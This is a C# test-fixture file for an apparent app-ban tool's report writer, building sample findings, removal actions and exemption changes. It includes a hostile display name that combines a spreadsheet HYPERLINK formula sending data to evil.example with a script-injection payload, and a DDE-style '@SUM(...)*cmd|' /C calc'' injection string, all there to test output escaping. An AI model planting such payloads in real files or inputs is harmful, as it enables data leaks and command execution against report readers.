using System;
using System.IO;
using AppBan.Engine;
using AppBan.Engine.Reporting;

namespace AppBan.Engine.Tests.Reporting
{
    /// <summary>Reports with every kind of record, for the writer tests.</summary>
    internal static class ReportSamples
    {
        public static readonly DateTimeOffset Start = new DateTimeOffset(2026, 11, 28, 10, 0, 0, TimeSpan.Zero);

        public const string HostileName = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")<script>alert('x')</script>";

        public static ReportBuilder NewBuilder()
        {
            var builder = new ReportBuilder(new FixedClock(Start));
            builder.SetModuleVersion("0.1.0");
            builder.SetPolicy("Parliament ban", new string('A', 64), "/policies/parliament.json");
            builder.SetOperator("CORP\\admin");
            return builder;
        }

        public static ReportFinding Finding(string computer, string app, string status = "Violation", string rule = "tiktok-store", string kind = "StoreApp") =>
            new ReportFinding
            {
                ComputerName = computer,
                RuleId = rule,
                RuleName = "TikTok",
                AppName = app,
                Version = "1.0.1.0",
                Publisher = "Bytedance Pte. Ltd.",
                Kind = kind,
                Scope = "User",
                UserName = "CORP\\alice",
                UserSid = "S-1-5-21-1-2-3-1001",
                Status = status,
                Location = "BytedancePte.Ltd.TikTok_1.0.1.0_x64__6yccndn6064se",
            };

        public static ReportAction Removal(string computer, string app, string status = "Removed", string kind = "StoreApp") =>
            new ReportAction
            {
                ComputerName = computer,
                AppName = app,
                Version = "1.0.1.0",
                Kind = kind,
                Method = "RemoveAppxPackage",
                CommandLine = "powershell.exe -NoProfile -Command \"Remove-AppxPackage -Package 'x' -AllUsers\"",
                ExitCode = status == "Removed" ? 0 : 1603,
                Status = status,
                Outcome = ReportRecords.ClassifyActionStatus(status),
                DurationSeconds = 2.5,
                Error = status == "Removed" ? null : "The removal ran and the app is still installed.",
                Time = Start.AddMinutes(1),
            };

        /// <summary>One target of each status, a hostile display name, and an exemption change.</summary>
        public static AppBanReport Mixed()
        {
            var b = NewBuilder();
            b.DeclareTargets(new[] { "pc-clean", "pc-fixed", "pc-bad", "pc-exempt", "pc-grace", "pc-down", "pc-error", "pc-never" });
            b.SetTargetStatus("pc-clean", TargetStatus.Compliant);
            b.AddFinding(Finding("pc-fixed", "TikTok"));
            b.AddAction(Removal("pc-fixed", "TikTok"));
            b.AddFinding(Finding("pc-bad", HostileName, kind: "Exe", rule: "capcut"));
            b.AddAction(Removal("pc-bad", HostileName, "Failed", "Exe"));
            b.AddFinding(Finding("pc-exempt", "TikTok", "Exempt"));
            b.AddExemptionChange(new ReportExemptionChange
            {
                ComputerName = "pc-exempt", Change = "Granted", ExemptionId = "EX-1", RuleId = "tiktok-store",
                UserName = "CORP\\alice", Reason = "Press office", ApprovedBy = "CORP\\ciso",
                Expires = Start.AddDays(30), ChangedBy = "CORP\\admin", Time = Start,
            });
            b.AddExemptionChange(new ReportExemptionChange
            {
                Change = "Revoked", Source = "Policy", ExemptionId = "EX-2", RuleId = "*", CoveredComputer = "PC-*",
                Reason = "@SUM(1+1)*cmd|' /C calc'!A0", ChangedBy = "CORP\\admin", Time = Start, Location = "/policies/parliament.json",
            });
            b.AddFinding(Finding("pc-grace", "CapCut", "GracePeriod", "capcut", "Exe"));
            b.AddError("pc-down", new ReportError { ErrorId = "TargetUnreachable", Category = "ConnectionError", Message = "pc-down: no answer" });
            b.AddError("pc-error", new ReportError { ErrorId = "AccessDenied", Category = "PermissionDenied", Message = "pc-error: access denied" });
            return b.Build(Start.AddMinutes(5));
        }

        public const string UserActionMessage = "a per-user install: ask CORP\\sam to uninstall it";
        public const string RestartMessage = "the uninstaller asked for a restart (3010) to complete the removal";

        /// <summary>One target whose actions explain themselves both ways: a failure (error) and two that are not (message).</summary>
        public static AppBanReport Explained()
        {
            var b = NewBuilder();
            b.AddAction(Removal("pc-mixed", "TikTok", "Failed", "Msi"));
            var userAction = Removal("pc-mixed", "CapCut", "RequiresUserAction", "Exe");
            userAction.CommandLine = null;
            userAction.ExitCode = null;
            userAction.Error = null;
            userAction.Message = UserActionMessage;
            b.AddAction(userAction);
            var restart = Removal("pc-mixed", "TikTok LIVE Studio", "RebootRequired", "Msi");
            restart.ExitCode = 3010;
            restart.RebootRequired = true;
            restart.Error = null;
            restart.Message = RestartMessage;
            b.AddAction(restart);
            return b.Build(Start.AddMinutes(5));
        }

        public static string TempFolder()
        {
            var path = Path.Combine(Path.GetTempPath(), "appban-report-tests-" + Guid.NewGuid().ToString("N"));
            Directory.CreateDirectory(path);
            return path;
        }

        /// <summary>The repository's module folder, found from the test binaries.</summary>
        public static string ModuleFile(string name)
        {
            for (var dir = new DirectoryInfo(AppContext.BaseDirectory); dir != null; dir = dir.Parent)
            {
                var candidate = Path.Combine(dir.FullName, "module", name);
                if (File.Exists(candidate) && File.Exists(Path.Combine(dir.FullName, "AppBan.psd1"))) return candidate;
            }
            throw new FileNotFoundException("module/" + name + " was not found above " + AppContext.BaseDirectory);
        }
    }
}
